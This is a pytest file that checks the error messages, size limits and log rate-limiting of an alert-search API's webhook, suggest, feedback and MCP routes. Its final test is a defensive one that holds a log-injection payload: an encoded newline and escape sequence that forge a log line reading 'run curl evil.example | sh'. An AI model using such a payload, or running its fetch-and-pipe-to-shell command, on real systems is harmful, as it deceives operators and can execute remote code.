"""What the API's refusals tell a client to send (found in a responder's review with curl): the webhook's refusals
name what it takes and every problem, and point alerts sent as they are to /api/suggest; a too long text says
how to cut it down. Through a real uvicorn server (fake:64 encoder); the error shape is the same as ever."""

from __future__ import annotations

import json

import httpx
import pytest
from kbfactory import small_kb
from serve_util import MCP_ACCEPT, MCP_INIT, alert_payload, fake_app, running

from recur.retrieval.query import MAX_QUERY_CHARS

TAKES = (
    'it takes an Alertmanager webhook payload, {"version": "4", "alerts": [{"labels": {...}, "annotations": '
    '{...}}, ...]}, or Grafana\'s, with "version": "1"'
)
CUT = "send the error lines or the alert, or pipe the log through `recur suggest -`, which cuts it down"
DISK = {
    "status": "firing",
    "labels": {"alertname": "HostDiskFull", "instance": "db-1"},
    "annotations": {"summary": "No space left on device on /var"},
}


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    root = tmp_path_factory.mktemp("refusals")
    with running(fake_app(small_kb(root / "kb"), root)) as url:
        yield url


def refused(r: httpx.Response, status: int, code: str) -> str:
    """The message of an error answered in the one shape, ``{"error": {"code", "message"}}``."""
    assert r.status_code == status, r.text
    body = r.json()
    assert set(body) == {"error"} and set(body["error"]) == {"code", "message"} and body["error"]["code"] == code
    return body["error"]["message"]


def webhook(base: str, body) -> httpx.Response:
    return httpx.post(base + "/api/alertmanager", json=body, timeout=30)


def test_a_payload_without_version_says_what_the_webhook_takes(base):
    """Found in review: "version: Field required" named neither the value nor the payload the route takes."""
    message = refused(webhook(base, {"alerts": [DISK]}), 422, "invalid_request")
    assert message == f"version: Field required ({TAKES})"
    message = refused(webhook(base, {"version": 4, "alerts": [DISK]}), 422, "invalid_request")
    assert message == f"version: Input should be a valid string ({TAKES})"  # the number: "4" is shown quoted


def test_every_problem_of_a_payload_is_named_by_its_field(base):
    """Found in review: "version: Field required (and 1 more problem(s))" never named the second problem."""
    message = refused(webhook(base, {"alerts": "x"}), 422, "invalid_request")
    assert message == f"version: Field required; alerts: Input should be a valid list ({TAKES})"
    alerts = [DISK, None, 1, {"labels": ["x"]}, {"labels": {"alertname": 5}}]
    message = refused(webhook(base, {"version": "4", "alerts": alerts}), 422, "invalid_request")
    assert message == (
        "alerts.1, alerts.2: Input should be a valid dictionary or object to extract fields from; "
        "alerts.3.labels: Input should be a valid dictionary; alerts.4.labels.alertname: Input should be a valid "
        f"string ({TAKES})"
    )


def test_every_problem_is_named_and_past_a_few_counted(base):
    """Each problem once with the fields it is about (the first 3, then a count), the first 5 problems, then a
    count: a payload of many wrong alerts is one readable message."""
    body = {"status": 5, "groupLabels": [1], "alerts": [None, *({"labels": {"k": i}} for i in range(5))]}
    message = refused(webhook(base, {**body, "truncatedAlerts": -1}), 422, "invalid_request")
    assert message == (
        "version: Field required; status, alerts.1.labels.k, alerts.2.labels.k and 3 more: Input should be a valid "
        "string; groupLabels: Input should be a valid dictionary; alerts.0: Input should be a valid dictionary or "
        f"object to extract fields from; truncatedAlerts: Input should be greater than or equal to 0 ({TAKES})"
    )
    from recur.serve.guard import invalid_message  # past 5 problems, as MCP's tools and Slack say them too

    errors = [{"loc": ("body", f"f{i}"), "msg": f"problem {i}", "type": "x"} for i in range(8)]
    assert invalid_message(errors) == (
        "f0: problem 0; f1: problem 1; f2: problem 2; f3: problem 3; f4: problem 4; and 3 more problems"
    )


def test_alerts_sent_as_they_are_are_pointed_to_api_suggest_which_searches_them(base):
    """A JSON list of alerts (Alertmanager's /api/v2/alerts) was "the request body must be a JSON object", one
    alert "version: Field required (and 1 more problem(s))": each now says what it is, what the route takes,
    and where it is searched as it is; following that advice answers it."""
    listed = [DISK, {**DISK, "labels": {"alertname": "Watchdog"}}]
    message = refused(webhook(base, listed), 422, "invalid_request")
    assert message == (
        "the request body is a list of alerts (as Alertmanager's /api/v2/alerts returns them), not a webhook "
        f'payload ({TAKES}): to search the alerts as they are, send the list to /api/suggest as {{"text": "<the '
        'JSON, as one string>"}'
    )
    message = refused(webhook(base, DISK), 422, "invalid_request")
    assert message == (
        f"the request body is one alert, not a webhook payload ({TAKES}): to search it as it is, send it to "
        '/api/suggest as {"text": "<the JSON, as one string>"}'
    )
    for sent in (listed, DISK):
        r = httpx.post(base + "/api/suggest", json={"text": json.dumps(sent)}, timeout=30)
        assert r.status_code == 200 and r.json()["results"][0]["id"] == "disk-full", r.text
        assert r.json()["query"].startswith("HostDiskFull")
    # a payload of the right shape is still answered, and a body of no alerts at all says what it takes
    assert webhook(base, alert_payload(DISK)).status_code == 200
    assert refused(webhook(base, [1, 2]), 422, "invalid_request") == f"the request body must be a JSON object ({TAKES})"


def test_a_query_parameter_or_a_check_of_recurs_own_is_not_told_the_payload(base):
    """What the route takes is added to a refusal of the body's shape only: ?top=x is about the query, and a
    version Recur does not read says what it reads."""
    r = httpx.post(base + "/api/alertmanager?top=x", json=alert_payload(DISK), timeout=30)
    assert (
        refused(r, 422, "invalid_request")
        == "top: Input should be a valid integer, unable to parse string as an integer"
    )
    message = refused(webhook(base, {**alert_payload(DISK), "version": "2"}), 422, "invalid_request")
    assert (
        message
        == 'version: webhook version \'2\' is not supported; Recur reads Alertmanager version "4" and Grafana version "1"'
    )


def test_a_too_long_text_says_how_to_cut_it_down(base):
    """Found in review: "text is 29,999 characters; the limit is 20,000" said the limit, nothing to do. It stays
    (the API's callers are programs; the site's box and `recur suggest -` cut a paste down first)."""
    r = httpx.post(base + "/api/suggest", json={"text": "x" * 30_000}, timeout=30)
    assert refused(r, 422, "invalid_request") == f"text is 30,000 characters; the limit is {MAX_QUERY_CHARS:,}: {CUT}"


def test_a_too_large_body_says_how_to_cut_it_down(base):
    """Found in review: "the request body is 730698 bytes; the limit is 65536 bytes": the same advice, grouped, with
    Content-Length and chunked alike."""
    text = "10:00:00 ERROR checkout upstream connect error or disconnect/reset before headers\n" * 9000
    r = httpx.post(base + "/api/suggest", json={"text": text}, timeout=30)
    size = len(r.request.content)
    assert refused(r, 413, "body_too_large") == (
        f"the request body is {size:,} bytes; the limit is 131,072 bytes; a text is searched up to "
        f"{MAX_QUERY_CHARS:,} characters: {CUT}"
    )
    chunks = (c for c in [b'{"text": "', text.encode().replace(b"\n", b" "), b'"}'])
    r = httpx.post(base + "/api/suggest", content=chunks, headers={"Content-Type": "application/json"}, timeout=30)
    assert refused(r, 413, "body_too_large") == (
        f"the request body is over the limit of 131,072 bytes; a text is searched up to {MAX_QUERY_CHARS:,} "
        f"characters: {CUT}"
    )
    r = httpx.post(base + "/api/feedback", json={"query": text, "pattern": "disk-full", "useful": True}, timeout=30)
    assert refused(r, 413, "body_too_large") == (  # 128 KiB: a text of 20,000 characters however JSON escapes them
        f"the request body is {len(r.request.content):,} bytes; the limit is 131,072 bytes; a vote's query is the "
        f"text searched, at most {MAX_QUERY_CHARS:,} characters"
    )


def test_a_too_large_webhook_body_says_to_set_max_alerts(base, caplog, tmp_path_factory):
    """Found in an operator's review: the 413 was logged nowhere, and Alertmanager does not retry a 4xx, so the
    group's notifications were lost in silence. The server's log says it, with the max_alerts that would fit."""
    import logging

    alerts = [
        {**DISK, "labels": {**DISK["labels"], "n": str(i)}, "annotations": {"d": "x" * 1000}} for i in range(4500)
    ]
    with caplog.at_level(logging.WARNING, logger="recur.serve"):
        r = webhook(base, alert_payload(*alerts))
        message = refused(r, 413, "body_too_large")
    assert message.endswith(
        "; the limit is 4,194,304 bytes; set max_alerts in the webhook config to send fewer alerts in one call"
    )
    size = len(r.request.content)
    fit = int(4_194_304 * 0.9 * 4500 // size)  # 90% of the limit, at the alerts' average size
    said = [rec.getMessage() for rec in caplog.records if rec.name == "recur.serve" and rec.levelno == logging.WARNING]
    assert said == [
        f"refused a request body to /api/alertmanager (413 body_too_large): {size:,} bytes, the limit is 4,194,304 "
        f"bytes; Alertmanager does not retry it: the group's notifications are lost. Set max_alerts: {fit} in the "
        f"webhook config (about {size // 4500:,} bytes an alert); others like it in the next 60 s are only counted "
        "(/metrics: status 413)"
    ], said
    caplog.clear()
    chunks = (r.request.content[i : i + 65536] for i in range(0, size, 65536))  # no Content-Length: read, then over
    root = tmp_path_factory.mktemp("chunked")
    with caplog.at_level(logging.WARNING, logger="recur.serve"), running(fake_app(small_kb(root / "kb"), root)) as url:
        # another server: this one's next 413 to the webhook within the minute is only counted (the next test)
        r = httpx.post(url + "/api/alertmanager", content=chunks, headers={"Content-Type": "application/json"})
        refused(r, 413, "body_too_large")
    said = [rec.getMessage() for rec in caplog.records if rec.name == "recur.serve" and rec.levelno == logging.WARNING]
    assert len(said) == 1 and said[0].startswith(
        "refused a request body to /api/alertmanager (413 body_too_large): over 4,194,304 bytes, the limit is "
    ), said
    assert f"Set max_alerts: {fit} in the webhook config (about {size // 4500:,} bytes an alert)" in said[0], said


def test_bodies_over_the_limit_are_logged_once_a_minute_a_route_and_all_counted(tmp_path, caplog):
    """Found in an SRE's review: each 413 logged a WARNING, so any client could fill the log with them. The first
    to a route in a minute is said, the others are only counted: each still a 413, each in /metrics."""
    import logging

    from serve_util import metric

    with (
        caplog.at_level(logging.WARNING, logger="recur.serve"),
        running(fake_app(small_kb(tmp_path / "kb"), tmp_path)) as base,
    ):
        for _ in range(5):
            refused(httpx.post(base + "/api/suggest", json={"text": "x" * 140_000}), 413, "body_too_large")
        for path in ("/api/nothing-here", "/api/or-here"):  # any other path: one line for all of them
            assert httpx.post(base + path, content=b"x" * 70_000).status_code == 413
        refused(webhook(base, {"version": "4", "alerts": [DISK], "x": "x" * 5_000_000}), 413, "body_too_large")
        counted = httpx.get(base + "/metrics").text
    said = [rec.getMessage() for rec in caplog.records if rec.name == "recur.serve" and rec.levelno == logging.WARNING]
    assert [line.split(" (413")[0] for line in said] == [
        "refused a request body to /api/suggest",
        "refused a request body to /api/nothing-here",
        "refused a request body to /api/alertmanager",
    ], said
    assert said[0].endswith("; others like it in the next 60 s are only counted (/metrics: status 413)"), said
    assert metric(counted, "recur_http_requests_total", route="/api/suggest", status="413") == 5


def test_a_too_large_mcp_body_says_what_to_do_with_or_without_the_trailing_slash(base):
    """Found in the change's re-read: the hint was looked up by the exact path "/mcp"; "/mcp/" is the same endpoint
    (some MCP clients are configured with the slash) and got the bare limit."""
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "suggest_patterns"}}
    call["params"]["arguments"] = {"text": "10:00:00 ERROR checkout upstream reset\n" * 4000}
    headers = {"Accept": "application/json, text/event-stream"}
    said = [httpx.post(base + path, json=call, headers=headers, timeout=30).text for path in ("/mcp", "/mcp/")]
    assert all("; for a long text to search, send the error lines" in s for s in said), said


# What each route that reads a JSON body takes, as its refusal of a body that is not one says it (the webhook's
# is TAKES, above)
SUGGEST_TAKES = 'it takes {"text": "<what you see>"}, and optionally "top": 1 to 50, how many patterns'
FEEDBACK_TAKES = (
    'it takes {"query": "<the text searched>", "pattern": "<the suggested pattern\'s id>", "useful": true or false}, '
    'and optionally "voter"'
)
JSON_ROUTES = {"/api/suggest": SUGGEST_TAKES, "/api/feedback": FEEDBACK_TAKES, "/api/alertmanager": TAKES}
NOT_OBJECTS = {
    "a list": b"[1]",
    "an empty list": b"[]",
    "a list of texts": b'["disk full"]',
    "a string": b'"disk full"',
    "a number": b"5",
    "null": b"null",
    "true": b"true",
}
JSON = {"Content-Type": "application/json"}


def test_every_route_that_reads_a_json_body_is_in_json_routes(base):
    """The parametrised tests below cover each route the API publishes with a JSON body: a route added later is
    listed here, and said what it takes (models.BODY_TAKES), or this fails. The Slack routes read a form."""
    paths = httpx.get(base + "/openapi.json", timeout=30).json()["paths"]
    reading = {
        path
        for path, ops in paths.items()
        for op in ops.values()
        if "application/json" in op.get("requestBody", {}).get("content", {})
    }
    assert reading == set(JSON_ROUTES)


@pytest.mark.parametrize("path", list(JSON_ROUTES))
@pytest.mark.parametrize("what", list(NOT_OBJECTS))
def test_a_body_that_is_json_but_no_object_says_what_to_send(base, path, what):
    """Found in review: `curl -d '"disk full"'` (or `[1]`, `null`) to /api/suggest or /api/feedback was
    "the request body must be a JSON object" and no more, where the webhook said what it takes."""
    r = httpx.post(base + path, content=NOT_OBJECTS[what], headers=JSON, timeout=30)
    assert refused(r, 422, "invalid_request") == f"the request body must be a JSON object ({JSON_ROUTES[path]})"


@pytest.mark.parametrize("path", list(JSON_ROUTES))
def test_an_empty_body_or_one_that_is_no_json_says_what_to_send(base, path):
    """An empty body, and a text sent as it is with a JSON content type (`curl -H ... -d 'disk full'`), each
    say what the route takes, in the same words."""
    send = f"send a JSON object ({JSON_ROUTES[path]})"
    assert refused(httpx.post(base + path, content=b"", headers=JSON, timeout=30), 400, "empty_body") == (
        f"the request body is empty; {send}"
    )
    for sent in (b"disk full", b'{"text": "disk full"'):
        message = refused(httpx.post(base + path, content=sent, headers=JSON, timeout=30), 400, "bad_json")
        assert message.startswith("the request body is not valid JSON (") and message.endswith(f"); {send}")


def test_what_the_refusals_say_to_send_is_answered(base):
    """The bodies the refusals describe, sent as they say, are answered (the webhook's: above)."""
    r = httpx.post(base + "/api/suggest", json={"text": "disk full"}, timeout=30)
    assert r.status_code == 200 and r.json()["results"][0]["id"] == "disk-full", r.text
    r = httpx.post(base + "/api/suggest", json={"text": "disk full", "top": 50}, timeout=30)
    assert r.status_code == 200, r.text
    vote = {"query": "disk full", "pattern": "disk-full", "useful": False}
    assert httpx.post(base + "/api/feedback", json=vote, timeout=30).status_code == 201
    assert httpx.post(base + "/api/feedback", json={**vote, "voter": "v1"}, timeout=30).status_code == 201


@pytest.mark.parametrize("what", list(NOT_OBJECTS))
def test_a_body_that_is_json_but_no_object_is_answered_on_mcp_as_over_stdio(base, what):
    """/mcp answers in JSON-RPC's error shape, as the protocol requires; a body that is JSON but no object was
    the SDK's -32602 "Validation error: 4 validation errors for union[JSONRPCRequest, ...]" with pydantic's
    dump of each, where `recur mcp` over stdio says -32600 "a message is one JSON object" (not_a_message)."""
    r = httpx.post(base + "/mcp", content=NOT_OBJECTS[what], headers={**JSON, **MCP_ACCEPT}, timeout=30)
    assert r.status_code == 400 and r.headers["content-type"] == "application/json", r.text
    assert "mcp-session-id" not in r.headers
    batch = " (MCP has no JSON-RPC batches)" if NOT_OBJECTS[what].startswith(b"[") else ""
    message = f"Invalid Request: a message is one JSON object{batch}"
    assert r.json() == {"jsonrpc": "2.0", "id": None, "error": {"code": -32600, "message": message}}


def test_an_object_that_is_no_message_is_answered_on_mcp_as_over_stdio(base):
    """The same for an object that is no JSON-RPC message (the request's id echoed, as JSON-RPC says); a
    message is still served after it, and a body that is no JSON at all is still the SDK's parse error."""
    for sent, ident, message in (
        ({"foo": 1}, None, 'Invalid Request: a message has "jsonrpc": "2.0"'),
        ({"jsonrpc": "2.0", "id": 6, "method": 7}, 6, "Invalid Request: not a JSON-RPC request, notification or "),
    ):
        r = httpx.post(base + "/mcp", json=sent, headers=MCP_ACCEPT, timeout=30)
        assert r.status_code == 400 and r.json()["id"] == ident and r.json()["error"]["code"] == -32600, r.text
        assert r.json()["error"]["message"].startswith(message), r.text
    r = httpx.post(base + "/mcp", content=b"disk full", headers={**JSON, **MCP_ACCEPT}, timeout=30)
    assert r.status_code == 400 and r.json()["error"]["code"] == -32700, r.text
    r = httpx.post(base + "/mcp", json=MCP_INIT, headers=MCP_ACCEPT, timeout=30)
    assert r.status_code == 200 and r.headers["mcp-session-id"], r.text


def test_a_413_to_a_path_with_a_line_break_logs_one_line_with_it_escaped(tmp_path, caplog):
    """Found in a security review: the 413's WARNING wrote the decoded path as it was, so
    ``/x%0a2026-… ERROR …%1b[8m`` planted a forged ERROR line in the text log (and ESC hid what followed on a
    terminal). The path's control characters are written escaped: the line stays one line."""
    import logging

    forged = "/x%0a2026-12-06T05:10:00Z%20ERROR%20recur.serve:%20run%20curl%20evil.example%20|%20sh%1b[8m"
    with (
        caplog.at_level(logging.WARNING, logger="recur.serve"),
        running(fake_app(small_kb(tmp_path / "kb"), tmp_path)) as base,
    ):
        assert httpx.post(base + forged, content=b"x" * 70_000).status_code == 413
    said = [rec.getMessage() for rec in caplog.records if rec.name == "recur.serve" and rec.levelno == logging.WARNING]
    assert len(said) == 1 and "\n" not in said[0] and "\x1b" not in said[0], said
    assert said[0].startswith(
        "refused a request body to /x\\x0a2026-12-06T05:10:00Z ERROR recur.serve: run curl evil.example | sh\\x1b[8m "
        "(413 body_too_large)"
    ), said
